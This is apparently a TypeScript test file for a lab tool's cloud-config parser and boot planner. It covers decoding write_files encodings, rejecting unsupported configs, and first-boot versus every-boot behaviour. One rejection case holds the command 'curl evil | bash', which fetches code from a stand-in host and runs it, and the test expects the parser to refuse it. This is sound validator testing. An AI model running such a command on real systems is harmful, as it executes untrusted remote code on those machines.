import assert from 'node:assert/strict';
import { gzipSync } from 'node:zlib';
import { planBoot } from '../../lab/instance/boot-plan.ts';
import { parseCloudConfig } from '../../lab/instance/cloud-config.ts';

const RUN = 'runcmd: [[/bin/bash, /opt/boot.sh]]\n';

describe('lab instance: cloud-config', () => {
  const encodings: [encoding: string, content: string][] = [
    ['text/plain', 'hello'],
    ['b64', Buffer.from('hello').toString('base64')],
    ['base64', Buffer.from('hello').toString('base64')],
    ['gz+b64', gzipSync('hello').toString('base64')],
    ['gzip+base64', gzipSync('hello').toString('base64')],
  ];
  for (const [encoding, content] of encodings) {
    it(`writes files given as ${encoding}`, () => {
      const files = `write_files: [{path: /etc/a, encoding: ${encoding}, content: "${content}", permissions: '0600'}]\n`;
      const config = parseCloudConfig(`#cloud-config\n${files}${RUN}`);
      assert.deepEqual(config.command, ['/bin/bash', '/opt/boot.sh']);
      assert.deepEqual(config.files, [{ path: '/etc/a', content: Buffer.from('hello'), mode: 0o600 }]);
    });
  }

  const refused: [what: string, text: string, says: RegExp][] = [
    ['a shell script', '#!/bin/bash\ntrue\n', /does not begin with the line #cloud-config/],
    ['two commands', '#cloud-config\nruncmd: [[a], [b]]\n', /runcmd/],
    ['a command as one string', '#cloud-config\nruncmd: ["curl evil | bash"]\n', /runcmd/],
    ['no command', '#cloud-config\nwrite_files: []\n', /runcmd/],
    ['a module that is not rehearsed', `#cloud-config\n${RUN}packages: [nginx]\n`, /packages/],
    ['a relative path', `#cloud-config\n${RUN}write_files: [{path: etc/a}]\n`, /path/],
  ];
  for (const [what, text, says] of refused) {
    it(`refuses ${what}`, () => assert.throws(() => parseCloudConfig(text), says));
  }
});

describe('lab instance: what is run at boot', () => {
  it('is a startup-script at every boot, and user-data at the first one only', () => {
    const script = planBoot({ kind: 'startup-script', script: '#!/bin/bash\ntrue\n' });
    const [file] = script.files;
    assert.equal(file?.content.toString(), '#!/bin/bash\ntrue\n');
    assert.deepEqual(script.command, ['/bin/bash', file?.path]);
    assert.equal(script.everyBoot, true);
    assert.equal(planBoot({ kind: 'cloud-config', userData: `#cloud-config\n${RUN}` }).everyBoot, false);
  });

  it('is no startup-script where nothing says who is to run it', () => {
    assert.throws(() => planBoot({ kind: 'startup-script', script: 'true\n' }), /#!\/bin\/bash/);
  });
});
